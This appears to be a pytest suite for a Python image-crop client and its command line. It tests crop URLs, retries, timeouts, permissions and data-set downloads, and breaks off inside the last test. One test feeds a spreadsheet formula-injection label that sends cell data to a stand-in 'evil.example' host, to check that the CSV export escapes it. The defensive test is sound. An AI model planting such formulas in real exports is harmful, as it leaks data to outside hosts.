"""The Python client (client/cropper_client) and its command line, against real nginx, Gunicorn and the stand-in.

crop_url is checked against the service's own answers for every option: the URL computed locally is
fetched first (the service makes the crop on that miss), then the same request is POSTed and must
answer that URL with the file already made. Retries and timeouts are checked against a tiny scripted
HTTP server, where the timing can be asserted.
"""

import csv
import fcntl
import hashlib
import json
import os
import pty
import select
import signal
import struct
import subprocess
import sys
import tarfile
import termios
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import requests

from cropper_client import (
    BusyError,
    ConnectionFailedError,
    CropFailure,
    Cropper,
    CropRequest,
    CropResult,
    DatasetJob,
    InvalidRequestError,
    NotFoundError,
    RequestTimeoutError,
    crop_url,
)
from devtools.servers import NginxServer, find_nginx_or_skip, read_log
from devtools.standin import (
    BENCH_DATASET_CONCEPT,
    BENCH_NAMES,
    CATALOG_NAMES,
    DATASET_CONCEPTS,
    DATASET_GENUS,
    DATASET_NAMES,
    EDGE_BOXES,
    MULTIPAGE_CONCEPT,
    box,
    concept_boxes,
    uuid_for,
)
from tests.images import assert_image_equal, expected_crop, open_bytes

UNKNOWN = "00000000-0000-4000-8000-000000000000"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def service(gunicorn, tmp_path_factory):
    """nginx in front of the module's Gunicorn, with limits that every request of this module fits in."""
    find_nginx_or_skip()
    limits = {"api_rate": "1000r/s", "api_burst": 1000, "regen_rate": "1000r/s", "regen_burst": 1000}
    with NginxServer(gunicorn, gunicorn.cache_dir, tmp_path_factory.mktemp("nginx"), **limits) as server:
        yield server


@pytest.fixture
def cropper(service):
    with Cropper(service.url, timeout=30) as client:
        yield client


# -- the client against the service


def test_a_crop_answers_its_url_and_the_file_has_the_pixels(cropper, standin, tmp_path):
    frame = standin.image("framegrab")
    crop = cropper.crop(frame.uuid, 100, 100, 405, 400, format="png")
    assert isinstance(crop, CropResult) and crop.ok
    assert (crop.uuid, crop.box, crop.region, crop.width, crop.height, crop.format, crop.cached) == (
        frame.uuid, (100, 100, 405, 400), (100, 100, 405, 400), 305, 300, "png", False)
    assert crop.url.endswith(f"/crops/{frame.uuid[:2]}/{frame.uuid}/100_100_405_400.png")
    assert crop.box_uuid is None and crop.concept is None
    assert cropper.crop(frame.uuid, 100, 100, 405, 400, format="png").cached is True
    saved = cropper.download(crop, tmp_path / "crop.png")
    assert_image_equal(open_bytes(saved.read_bytes()), expected_crop(frame, (100, 100, 405, 400)))


def test_a_box_crop_carries_its_annotation(cropper):
    annotation = box(EDGE_BOXES["top"])
    crop = cropper.crop_box(annotation["uuid"], pad=16, format="png")
    assert (crop.box_uuid, crop.concept, crop.uuid) == (annotation["uuid"], annotation["concept"],
                                                        annotation["imageUuid"])
    assert crop.box == (500, 0, 680, 120) and crop.region == (484, 0, 696, 136)  # padding stops at the top edge


def test_a_batch_answers_in_order_with_failures_as_values(cropper, standin):
    frame = standin.image("framegrab-1")
    items = [
        CropRequest.of(frame.uuid, 0, 0, 64, 48),
        {"uuid": frame.uuid, "x1": 1900, "y1": 0, "x2": 2000, "y2": 10},  # past the 1920-wide image
        CropRequest.of_box(EDGE_BOXES["left"], width=32, format="jpeg"),   # its own format wins
        {"uuid": frame.uuid, "x1": "abc", "y1": 0, "x2": 10, "y2": 10},
        None,  # as a JSON list given to `cropper-client crop-list` may hold
    ]
    results = cropper.crop_many(items, format="png")
    assert [r.ok for r in results] == [True, False, True, False, False]
    plain, outside, annotation, invalid, null = results
    assert null.code == "validation_error"
    assert plain.format == "png" and plain.region == (0, 0, 64, 48)
    assert isinstance(outside, CropFailure) and outside.code == "box_outside_image"
    assert outside.details == {"image_width": 1920, "image_height": 1080} and outside.box == (1900, 0, 2000, 10)
    assert (annotation.box_uuid, annotation.format, annotation.width) == (EDGE_BOXES["left"], "jpeg", 32)
    assert invalid.code == "validation_error" and "x1" in invalid.details
    assert cropper.crop_many([CropRequest.of(frame.uuid, 0, 0, 64, 48)], batch_size=1, format="png")[0].cached


def test_a_concept_is_paged_through_to_its_last_box(cropper):
    pages = list(cropper.iter_concept(MULTIPAGE_CONCEPT, page_size=10, width=64, height=64, fit="cover"))
    assert [len(page.crops) for page in pages] == [10, 10, 10, 2]
    assert [page.next_offset for page in pages] == [10, 20, 30, None] and {page.total for page in pages} == {32}
    crops = [crop for page in pages for crop in page.crops]
    assert [crop.box_uuid for crop in crops] == [b["uuid"] for b in concept_boxes(MULTIPAGE_CONCEPT)]
    assert all(crop.ok and crop.concept == MULTIPAGE_CONCEPT and (crop.width, crop.height) == (64, 64)
               for crop in crops)
    window = list(cropper.iter_concept(MULTIPAGE_CONCEPT, page_size=10, offset=5, limit=13))
    assert [len(page.crops) for page in window] == [10, 3]
    assert [c.box_uuid for page in window for c in page.crops] == [c.box_uuid for c in cropper.crop_concept(
        MULTIPAGE_CONCEPT, limit=13, offset=5).crops] == [c.box_uuid for c in crops[5:18]]


def test_an_images_boxes_are_typed(cropper, standin):
    frame = standin.image("framegrab-7")
    listing = cropper.image_boxes(frame.uuid)
    assert (listing.uuid, listing.width, listing.height) == (frame.uuid, 1920, 1080)
    past = next(b for b in listing.boxes if b.box_uuid == EDGE_BOXES["past-left"])
    assert past.box == (-40, 500, 160, 600) and past.region == (0, 500, 160, 600)
    assert past.request == {"box_uuid": past.box_uuid} and past.url == cropper.crop_box(past.box_uuid).url


def test_the_services_errors_are_raised_with_code_and_details(cropper, standin):
    frame = standin.image("framegrab")
    with pytest.raises(NotFoundError) as unknown:
        cropper.crop(UNKNOWN, 0, 0, 10, 10)
    assert (unknown.value.status, unknown.value.code) == (404, "image_not_found")
    assert UNKNOWN in unknown.value.message
    with pytest.raises(InvalidRequestError) as invalid:
        cropper.crop(frame.uuid, 0, 0, 10, 10, width=0, quality=101)
    assert (invalid.value.status, invalid.value.code) == (422, "validation_error")
    assert {"width", "quality"} <= set(invalid.value.details)
    with pytest.raises(InvalidRequestError) as outside:
        cropper.crop(frame.uuid, 0, 0, 1921, 10)
    assert outside.value.code == "box_outside_image" and outside.value.details["image_width"] == 1920
    with pytest.raises(NotFoundError) as concept:
        cropper.crop_concept("Nonexistentia imaginaria")
    assert concept.value.code == "concept_not_found" and concept.value.details == {
        "concept": "Nonexistentia imaginaria"}
    with pytest.raises(NotFoundError) as no_box:
        cropper.image_boxes(UNKNOWN)
    assert no_box.value.code == "image_not_found"
    with pytest.raises(TypeError, match="widht"):  # a misspelt option never leaves the client
        cropper.crop(frame.uuid, 0, 0, 10, 10, widht=10)


# -- crop_url: the URL computed locally is the one the service answers

FRAME_SIZE = (1920, 1080)
BOX = (200, 300, 600, 500)  # 400 x 200


@pytest.mark.parametrize("options", [
    {},
    {"width": 224, "height": 224},
    {"width": 224, "height": 224, "fit": "contain"},
    {"width": 224, "height": 224, "fit": "cover"},
    {"width": 100, "height": 300, "fit": "cover"},  # a tall cut of a wide box
    {"width": 224, "height": 224, "fit": "fill"},
    {"width": 224, "height": 224, "fit": "letterbox"},
    {"width": 224, "height": 224, "fit": "letterbox", "background": "#336699"},
    {"width": 224, "height": 224, "fit": "letterbox", "background": "#000000"},  # the default: not in the path
    {"width": 200, "height": 100, "fit": "letterbox"},  # fills the canvas exactly: no canvas
    {"width": 224},
    {"height": 99},
    {"width": 1000, "height": 1000},
    {"width": 1000, "height": 1000, "enlarge": False},
    {"width": 1000, "height": 1000, "fit": "letterbox", "enlarge": False},
    {"width": 800, "enlarge": False},
    {"quality": 80},
    {"quality": 80, "format": "jpeg"},
    {"quality": 80, "format": "png"},  # png takes no quality: not in the path
    {"format": "jpg"},
    {"format": "png", "width": 400},  # the region's own size: not in the path
    {"width": 400, "height": 200, "fit": "fill"},
    {"pad": 16},
    {"pad": "16"},
    {"pad": "10%"},
    {"pad": "12.5%", "width": 128},
    {"pad": 350},  # stops at the top and left edges
    {"square": True},
    {"square": True, "pad": 300},  # a 1000 square, shifted back inside the image
    {"square": True, "pad": "50%", "width": 96, "height": 96, "fit": "cover", "quality": 70},
])
def test_crop_url_is_the_url_the_service_answers(service, cropper, standin, options):
    frame = standin.image("framegrab-2")
    needs_size = "pad" in options or "square" in options
    url = crop_url(service.url, frame.uuid, *BOX, image_size=FRAME_SIZE if needs_size else None, **options)
    fetched = requests.get(url, timeout=30)  # before anyone asked for it: nginx passes the miss to the app
    assert fetched.status_code == 200, (url, fetched.text)
    crop = cropper.crop(frame.uuid, *BOX, **options)
    assert crop.url == url and crop.cached
    assert open_bytes(fetched.content).size == (crop.width, crop.height)


def test_crop_url_with_the_image_size_checks_the_box_and_without_it_refuses_pad_and_square(standin):
    frame = standin.image("framegrab-2")
    base = "http://crops.test/"
    assert crop_url(base, frame.uuid.upper(), *BOX, image_size=FRAME_SIZE) == crop_url(base, frame.uuid, *BOX)
    for options in ({"pad": 16}, {"square": True}):
        with pytest.raises(ValueError, match="image_size"):
            crop_url(base, frame.uuid, *BOX, **options)
    refused = [({"width": 10, "fit": "cover"}, "width and height"), ({"background": "#ffffff"}, "letterbox"),
               ({"quality": 0}, "quality"), ({"format": "gif"}, "format"), ({"pad": "2000%"}, "pad"),
               ({"image_size": (500, 500)}, "does not fit"), ({"width": 0}, "width")]
    for options, field in refused:
        with pytest.raises(ValueError, match=field):
            crop_url(base, frame.uuid, *BOX, **options)


# -- retries and timeouts, against a scripted server


class Scripted(ThreadingHTTPServer):
    """An HTTP server on 127.0.0.1 answering each request with the next scripted answer (the last one repeats).

    An answer is (status, headers, body), ("drop",) to hang up without answering, ("short",) to hang up
    half-way through a 200's body, or ("sleep", seconds) to answer 200 after a pause. Request times are
    recorded.
    """

    daemon_threads = True

    def __init__(self, *answers):
        super().__init__(("127.0.0.1", 0), ScriptedHandler)
        self.answers = list(answers)
        self.times = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def next_answer(self):
        self.times.append(time.monotonic())
        return self.answers.pop(0) if len(self.answers) > 1 else self.answers[0]

    def __enter__(self):
        threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *exc):
        self.shutdown()
        self.server_close()


class ScriptedHandler(BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        answer = self.server.next_answer()
        if answer[0] == "drop":
            self.close_connection = True
            return
        if answer[0] == "sleep":
            time.sleep(answer[1])
            answer = (200, {}, CROP_ANSWER)
        if answer[0] == "short":
            data = json.dumps(CROP_ANSWER).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data[:len(data) // 2])
            self.close_connection = True
            return
        status, headers, body = answer
        data = json.dumps(body).encode()
        self.send_response(status)
        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(data)), **headers}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)


CROP_ANSWER = {"url": "http://crops.test/crops/00/x/0_0_1_1.webp", "uuid": UNKNOWN, "box": [0, 0, 1, 1],
               "region": [0, 0, 1, 1], "width": 1, "height": 1, "format": "webp", "cached": True}
BUSY = (503, {"Retry-After": "1"}, {"error": {"code": "busy", "message": "Busy.", "details": {}}})
LIMITED = (429, {"Retry-After": "1"}, {"error": {"code": "too_many_requests", "message": "Slow down.", "details": {}}})
OK = (200, {}, CROP_ANSWER)


@pytest.mark.parametrize("refusal", [BUSY, LIMITED], ids=["503", "429"])
def test_busy_and_rate_limited_answers_are_retried_after_retry_after(refusal):
    with Scripted(refusal, OK) as server:
        started = time.monotonic()
        crop = Cropper(server.url, timeout=5).crop(UNKNOWN, 0, 0, 1, 1)
        elapsed = time.monotonic() - started
    assert crop.url == CROP_ANSWER["url"] and len(server.times) == 2
    assert server.times[1] - server.times[0] >= 0.95 and elapsed < 3


def test_retries_are_bounded_and_the_last_refusal_is_raised():
    hurry = (503, {"Retry-After": "0"}, BUSY[2])
    with Scripted(hurry) as server:
        with pytest.raises(BusyError) as busy:
            Cropper(server.url, timeout=5, retries=2).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 3 and (busy.value.status, busy.value.code, busy.value.retry_after) == (503, "busy", 0)


def test_a_long_retry_after_is_capped_and_other_errors_are_not_retried():
    slow_down = (429, {"Retry-After": "3600"}, LIMITED[2])
    with Scripted(slow_down, OK) as server:
        started = time.monotonic()
        Cropper(server.url, timeout=5, max_wait=0.2).crop(UNKNOWN, 0, 0, 1, 1)
        assert 0.2 <= time.monotonic() - started < 2
    missing = (404, {}, {"error": {"code": "image_not_found", "message": "No such image.", "details": {}}})
    with Scripted(missing, OK) as server:
        with pytest.raises(NotFoundError):
            Cropper(server.url, timeout=5).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 1


def test_dropped_connections_are_retried_with_backoff_then_given_up():
    with Scripted(("drop",), ("drop",), OK) as server:
        crop = Cropper(server.url, timeout=5, backoff=0.1).crop(UNKNOWN, 0, 0, 1, 1)
    assert crop.cached and len(server.times) == 3
    assert server.times[2] - server.times[1] >= 0.19  # 0.1, then 0.2
    with Scripted(("drop",)) as server:
        with pytest.raises(ConnectionFailedError):
            Cropper(server.url, timeout=5, retries=2, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert len(server.times) == 3


def test_an_answer_cut_short_is_a_dropped_connection_retried_then_raised_as_connection_failed():
    # A worker or a network dying half-way through the body: requests raises ChunkedEncodingError
    # (not a ConnectionError), which escaped the client as a bare requests exception.
    with Scripted(("short",), OK) as server:
        crop = Cropper(server.url, timeout=5, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert crop.cached and len(server.times) == 2
    with Scripted(("short",)) as server:
        with pytest.raises(ConnectionFailedError) as failed:
            Cropper(server.url, timeout=5, retries=1, backoff=0.01).crop(UNKNOWN, 0, 0, 1, 1)
    assert failed.value.code == "connection_error" and len(server.times) == 2


def test_every_request_has_a_timeout_and_a_slow_answer_is_not_asked_again():
    with Scripted(("sleep", 2)) as server:
        started = time.monotonic()
        with pytest.raises(RequestTimeoutError) as timeout:
            Cropper(server.url, timeout=0.3).crop(UNKNOWN, 0, 0, 1, 1)
        assert time.monotonic() - started < 1.5
    assert timeout.value.code == "timeout" and len(server.times) == 1


# -- the command line


def cli(service, *args, umask=0o022):
    env = {**os.environ, "CROPPER_URL": service.url}
    return subprocess.run([sys.executable, "-m", "cropper_client", *map(str, args)], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=120, umask=umask)


def draw(standin, uuids):
    """The stand-in draws an image the first time anyone asks about it, which on a loaded machine can take
    longer than the service's 1 s read timeout here: draw these images before the service asks for them."""
    for name, uuid in CATALOG_NAMES.items():
        if uuid in uuids:
            standin.image(name)


def modes(folder):
    """Every file's and folder's permission bits below folder, by path relative to it."""
    return {str(path.relative_to(folder)): path.stat().st_mode & 0o777 for path in Path(folder).rglob("*")}


def test_cli_crop_saves_the_file_in_the_format_of_its_name(service, standin, tmp_path):
    frame = standin.image("framegrab-3")
    out = tmp_path / "crop.png"
    done = cli(service, "crop", frame.uuid, 10, 20, 110, 95, "--out", out)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["format"] == "png" and answer["file"] == str(out)
    assert_image_equal(open_bytes(out.read_bytes()), expected_crop(frame, (10, 20, 110, 95)))


def test_cli_crop_by_box_uuid_with_options(service, tmp_path):
    script = Path(sys.executable).with_name("cropper-client")  # the console script pip installed
    done = subprocess.run([script, "crop", "--box", EDGE_BOXES["right"], "--width", "96", "--height", "96",
                           "--fit", "cover", "--quality", "70", "--out", tmp_path, "--url", service.url],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer["box_uuid"] == EDGE_BOXES["right"] and answer["url"].endswith("_96x96_q70.webp")
    assert open_bytes(Path(answer["file"]).read_bytes()).size == (96, 96)
    assert Path(answer["file"]).parent == tmp_path


def test_cli_crop_list_from_csv_saves_the_good_ones_and_reports_the_bad_one(service, standin, tmp_path):
    frame = standin.image("framegrab-4")
    rows = [{"uuid": frame.uuid, "x1": 0, "y1": 0, "x2": 50, "y2": 40},
            {"box_uuid": EDGE_BOXES["top-left"], "width": 80},
            {"uuid": frame.uuid, "x1": 0, "y1": 0, "x2": 5000, "y2": 10},
            {"uuid": frame.uuid, "x1": 100, "y1": 100, "x2": 150, "y2": 120, "format": "jpeg", "notes": "a fish"}]
    table = tmp_path / "crops.csv"
    with table.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, ["uuid", "x1", "y1", "x2", "y2", "box_uuid", "width", "format", "notes"])
        writer.writeheader()
        writer.writerows(rows)
    done = cli(service, "crop-list", table, "--format", "png", "--out", tmp_path / "out")
    assert done.returncode == 1  # one item failed; the others are saved
    answers = [json.loads(line) for line in done.stdout.splitlines()]
    assert [("url" in a) for a in answers] == [True, True, False, True]
    assert [a.get("format") for a in answers] == ["png", "png", None, "jpeg"]
    assert answers[2]["code"] == "box_outside_image"
    assert "item 3: box_outside_image" in done.stderr and "ignoring column(s) notes" in done.stderr
    saved = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert saved == sorted(Path(a["file"]).name for a in answers if "file" in a) and len(saved) == 3


def test_cli_crop_concept_downloads_every_crop_and_writes_the_csv(service, tmp_path):
    out = tmp_path / "dataset"
    done = cli(service, "crop-concept", MULTIPAGE_CONCEPT, "--limit", 15, "--page-size", 10, "--out", out,
               "--width", 64, "--height", 64, "--fit", "cover", "--format", "png")
    assert done.returncode == 0, done.stderr
    with (out / "crops.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == ["url", "label", "box_uuid", "image_uuid", "x1", "y1", "x2", "y2", "file"]
    wanted = concept_boxes(MULTIPAGE_CONCEPT)[:15]
    assert [(r["box_uuid"], r["image_uuid"], r["label"]) for r in rows] == [
        (b["uuid"], b["imageUuid"], MULTIPAGE_CONCEPT) for b in wanted]
    assert sorted(p.name for p in out.iterdir()) == sorted([r["file"] for r in rows] + ["crops.csv"])
    assert all(open_bytes((out / r["file"]).read_bytes()).size == (64, 64) for r in rows)
    assert "15 crops" in done.stderr


def test_cli_crop_concept_writes_a_formula_concept_as_text(service, standin, tmp_path):
    concept = '=HYPERLINK("http://evil.example/?leak="&A2,"Open crop")'
    standin.add_box("framegrab-1", concept, 10, 12, 40, 30)
    done = cli(service, "crop-concept", concept, "--limit", 5, "--out", tmp_path / "dataset")
    assert done.returncode == 0, done.stderr
    with (tmp_path / "dataset" / "crops.csv").open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["label"], r["x1"], r["y2"]) for r in rows] == [("'" + concept, "10", "42")]


@pytest.mark.parametrize("umask, file_mode", [(0o022, 0o644), (0o077, 0o600)])
def test_cli_saved_crops_honour_the_umask(service, standin, tmp_path, umask, file_mode):
    # They came out 0600 whatever the umask (tempfile's mode): a colleague's account, or a training job
    # running as another user, could not read them.
    frame = standin.image("framegrab-5")
    draw(standin, {b["imageUuid"] for b in concept_boxes(MULTIPAGE_CONCEPT)[:3]})
    done = cli(service, "crop", frame.uuid, 0, 0, 30, 20, "--out", tmp_path / "crop.png", umask=umask)
    assert done.returncode == 0, done.stderr
    concept = cli(service, "crop-concept", MULTIPAGE_CONCEPT, "--limit", 3, "--out", tmp_path / "concept",
                  umask=umask)
    assert concept.returncode == 0, concept.stderr
    saved = modes(tmp_path / "concept")
    assert len(saved) == 4 and set(saved.values()) == {file_mode}  # three crops and crops.csv
    assert modes(tmp_path)["crop.png"] == file_mode


def test_cli_errors_are_one_line_and_exit_non_zero(service, standin):
    unknown = cli(service, "crop", UNKNOWN, 0, 0, 10, 10)
    assert unknown.returncode == 1 and unknown.stdout == ""
    assert unknown.stderr.count("\n") == 1 and "image_not_found" in unknown.stderr and UNKNOWN in unknown.stderr
    invalid = cli(service, "crop", standin.image("framegrab").uuid, 0, 0, 10, 10, "--width", 0)
    assert invalid.returncode == 1 and invalid.stderr.count("\n") == 1
    assert "validation_error" in invalid.stderr and '"width"' in invalid.stderr
    unreachable = cli(service, "crop", UNKNOWN, 0, 0, 10, 10, "--url", "http://127.0.0.1:9", "--retries", 0)
    assert unreachable.returncode == 1 and "connection_error" in unreachable.stderr


def test_cli_url_is_crop_url(service, standin):
    frame = standin.image("framegrab-2")
    done = cli(service, "url", frame.uuid, *BOX, "--pad", "10%", "--square", "--image-size", "1920x1080",
               "--width", 128, "--format", "jpg")
    assert done.returncode == 0, done.stderr
    assert done.stdout.strip() == crop_url(service.url, frame.uuid, *BOX, pad="10%", square=True,
                                           image_size=FRAME_SIZE, width=128, format="jpg")


# -- data sets (docs/datasets.md)

SPECIES = [name for name in DATASET_CONCEPTS if name.startswith(f"{DATASET_GENUS} ")]


def run_in_terminal(args, umask=0o022, timeout=180):
    """Run the command line with its stderr on a pseudo-terminal, where it draws progress bars:
    (exit status, stdout, what the terminal showed)."""
    controller, terminal = pty.openpty()
    fcntl.ioctl(terminal, termios.TIOCSWINSZ, struct.pack("HHHH", 24, 120, 0, 0))  # a terminal's size: 120 wide
    process = subprocess.Popen([sys.executable, "-m", "cropper_client", *map(str, args)], cwd=ROOT,
                               stdout=subprocess.PIPE, stderr=terminal, umask=umask)
    os.close(terminal)
    shown = b""
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            if select.select([controller], [], [], 1)[0]:
                try:
                    chunk = os.read(controller, 65536)
                except OSError:  # EIO: the process closed the terminal, at its exit
                    break
                if not chunk:
                    break
                shown += chunk
        stdout, _ = process.communicate(timeout=max(1, deadline - time.monotonic()))
    finally:
        process.kill()
        os.close(controller)
    return process.returncode, stdout.decode(), shown.decode(errors="replace")


@pytest.fixture(scope="module")
def dataset_family(standin):
    draw(standin, {uuid_for(name) for name in DATASET_NAMES})


def stored_file(gunicorn, job, name):
    """A finished data set's file in the service's data-set store, as nginx serves it."""
    return Path(gunicorn.cache_dir) / "datasets" / "files" / job.id / name


def test_cli_dataset_create_shows_progress_checks_the_files_and_unpacks_the_documented_layout(
        service, dataset_family, tmp_path):
    out = tmp_path / "atolla"
    status, stdout, terminal = run_in_terminal(
        ["--url", service.url, "dataset", "create", "--concept", DATASET_GENUS, "--descendants", "--label", "asked",
         "--split", "50/25/25", "--seed", 11, "--format", "png", "--width", 48, "--height", 48, "--fit", "cover",
         "--out", out], umask=0o022)
    assert status == 0, terminal
    answer = json.loads(stdout)
    assert answer["status"] == "done" and answer["folder"] == str(out)
    assert answer["request"]["split"] == {"train": 0.5, "validation": 0.25, "test": 0.25}
    assert answer["request"]["crop"]["format"] == "png" and answer["request"]["formats"] == ["imagefolder"]
    boxes = answer["progress"]["boxes_total"]
    assert f"{boxes}/{boxes}" in terminal and "crop/s" in terminal and "imagefolder.zip" in terminal  # the bars

    (listed,) = answer["files"]
    assert hashlib.sha256((out / "imagefolder.zip").read_bytes()).hexdigest() == listed["sha256"]
    with open(out / "manifest.csv", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == answer["progress"]["crops_done"] > 3
    for row in rows:
        crop = out / row["split"] / row["label"] / f"{row['box_uuid']}.png"
        assert open_bytes(crop.read_bytes()).size == (48, 48)
    splits = {row["split"] for row in rows}
    assert splits == set(answer["counts"]) and len(splits) > 1
    assert all((out / split / "metadata.jsonl").is_file() for split in splits)
    assert (out / "labels.txt").read_text() == f"{DATASET_GENUS}\n"
    assert "load_dataset" in (out / "README.md").read_text()
    with open(out / "failures.csv", newline="") as file:
        assert len(list(csv.DictReader(file))) == answer["progress"]["crops_failed"]
    saved = modes(out)
    assert {mode for name, mode in saved.items() if (out / name).is_file()} == {0o644}  # umask 022
    assert {mode for name, mode in saved.items() if (out / name).is_dir()} == {0o755}
    assert not list(out.glob("*.part"))
    datasets = pytest.importorskip("datasets")  # the folder loads as the data-set page says, the zip beside it
    os.environ.setdefault("HF_DATASETS_OFFLINE", "1")
    loaded = datasets.load_dataset("imagefolder", data_dir=str(out))
    assert {split: loaded[split].num_rows for split in loaded} == {
        split: sum(labels.values()) for split, labels in answer["counts"].items()}


def test_dataset_jobs_in_python_wait_download_and_are_shared_without_tqdm(
        cropper, dataset_family, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "tqdm", None)  # as if the extra "progress" were not installed
    job = cropper.dataset(SPECIES[0], seed=12, format="png", pad="10%", formats=["imagefolder", "webdataset"])
    assert isinstance(job, DatasetJob) and len(job.id) == 32
    assert job.wait(poll=0.2).status == "done"
    assert job.request["concepts"] == [SPECIES[0]] and job.request["crop"]["pad"] == "10%"
    folder = job.download(tmp_path / "data")
    for listed in job.files:  # every file under its name, as the service lists it
        assert hashlib.sha256((folder / listed.name).read_bytes()).hexdigest() == listed.sha256, listed.name
    shards = [listed for listed in job.files if listed.format == "webdataset"]
    assert shards and {listed.split for listed in shards} <= {"train", "validation", "test"}
    for shard in shards:  # kept as they are: a tar of samples, each a crop, its record and its class
        with tarfile.open(folder / shard.name) as tar:
            assert sum(name.endswith(".cls") for name in tar.getnames()) == shard.samples > 0
    with open(folder / "manifest.csv", newline="") as file:  # and the zip unpacked beside them
        rows = list(csv.DictReader(file))
    assert rows and all((folder / row["split"] / row["label"] / f"{row['box_uuid']}.png").is_file() for row in rows)
    assert sum(shard.samples for shard in shards) == len(rows)
    again = cropper.dataset([SPECIES[0]], seed=12, format="png", pad="10%", formats=("webdataset", "imagefolder"))
    assert (again.id, again.status, again.files) == (job.id, "done", job.files)  # the identical request: a 200
    with pytest.raises(InvalidRequestError) as unknown:
        cropper.dataset(["Atola wyvillei"])
    assert unknown.value.code == "unknown_concept"
    assert "Atolla wyvillei" in unknown.value.details["suggestions"]["Atola wyvillei"]


def test_a_download_cut_short_is_resumed_with_a_range_and_checked(service, dataset_family, gunicorn, cropper, tmp_path):
    job = cropper.dataset(SPECIES[1], seed=13, format="png").wait(poll=0.2)
    (listed,) = job.files
    stored = stored_file(gunicorn, job, listed.name).read_bytes()
    out = tmp_path / "data"
    out.mkdir()
    cut = len(stored) // 3
    (out / listed.part_name).write_bytes(stored[:cut])  # what an earlier attempt got before it was cut off
    path = listed.url.split(service.url, 1)[1]

    done = cli(service, "dataset", "create", "--concept", SPECIES[1], "--seed", 13, "--format", "png", "--out", out)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["id"] == job.id  # the identical request joins the job
    assert (out / listed.name).read_bytes() == stored and (out / "manifest.csv").is_file()
    fetched = [entry for entry in read_log(service.access_log, lambda entries: any(
        entry["uri"] == path for entry in entries)) if entry["uri"] == path]
    assert [(entry["status"], entry["bytes"]) for entry in fetched] == [(206, len(stored) - cut)]


def test_a_file_whose_sha256_is_wrong_is_refused_and_not_kept(service, dataset_family, gunicorn, cropper, tmp_path):
    job = cropper.dataset(SPECIES[1], seed=14, format="png").wait(poll=0.2)
    stored = stored_file(gunicorn, job, "imagefolder.zip")
    data = bytearray(stored.read_bytes())
    data[len(data) // 2] ^= 0xFF  # a flipped bit on the service's disk: the same size, another sha256
    stored.write_bytes(bytes(data))
    out = tmp_path / "data"
    done = cli(service, "dataset", "create", "--concept", SPECIES[1], "--seed", 14, "--format", "png", "--out", out)
    assert done.returncode == 1 and done.stdout == ""
    assert done.stderr.count("\n") == 2, done.stderr  # "data set <id> done", then the error
    error = done.stderr.splitlines()[-1]
    assert "sha256_mismatch: imagefolder.zip: the download has sha256" in error and job.files[0].sha256 in error
    assert sorted(path.name for path in out.iterdir()) == []  # neither the file, nor its part, nor what is in it


def test_ctrl_c_leaves_the_job_running_and_status_and_cancel_follow_it(service, standin, tmp_path):
    draw(standin, {uuid_for(name) for name in BENCH_NAMES[:40]})  # the job's 40 images: it then runs for seconds
    standin.latency = 0.4
    env = {**os.environ, "CROPPER_URL": service.url}
    create = subprocess.Popen([sys.executable, "-m", "cropper_client", "dataset", "create", "--concept",
                               BENCH_DATASET_CONCEPT, "--max-boxes", "400", "--seed", "15", "--out", tmp_path / "data"],
                              env=env, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert select.select([create.stderr], [], [], 60)[0], "no job started"
        first = create.stderr.readline()  # "cropper-client: data set <id> queued", flushed before waiting
        job_id = first.split("data set ")[1].split()[0]
        time.sleep(0.5)
        create.send_signal(signal.SIGINT)
        stdout, stderr = create.communicate(timeout=30)
        assert create.returncode == 130 and stdout == ""
        assert stderr == f"cropper-client: stopped waiting; data set {job_id} goes on: follow it with " \
                         f"cropper-client dataset status {job_id}\n"
        status = cli(service, "dataset", "status", job_id)
        assert status.returncode == 0, status.stderr
        assert json.loads(status.stdout)["status"] in ("queued", "running")  # not cancelled by the Ctrl-C
        cancel = cli(service, "dataset", "cancel", job_id)
        assert cancel.returncode == 0, cancel.stderr
        assert json.loads(cancel.stdout)["status"] == "cancelled"
        assert cancel.stderr == f"cropper-client: data set {job_id} cancelled\n"
    finally:
        create.kill()
        standin.latency = 0.0
    gone = cli(service, "dataset", "status", job_id)
    assert gone.returncode == 1 and gone.stderr.count("\n") == 1
    assert "dataset_gone" in gone.stderr and '"status":"cancelled"' in gone.stderr
    assert not (tmp_path / "data").exists()


def test_cli_dataset_errors_are_one_line_and_exit_non_zero(service):
    unknown = cli(service, "dataset", "create", "--concept", "Atola wyvillei", "--out", "never-made")
    assert unknown.returncode == 1 and unknown.stderr.count("\n") == 1
    assert "unknown_concept" in unknown.stderr and "Atolla wyvillei" in unknown.stderr
    missing = cli(service, "dataset", "status", "0" * 32)
    assert missing.returncode == 1 and "dataset_not_found" in missing.stderr and missing.stderr.count("\n") == 1
    invalid = cli(service, "dataset", "create", "--concept", DATASET_GENUS, "--filter", "minDepth=deep",
                  "--out", "never-made")
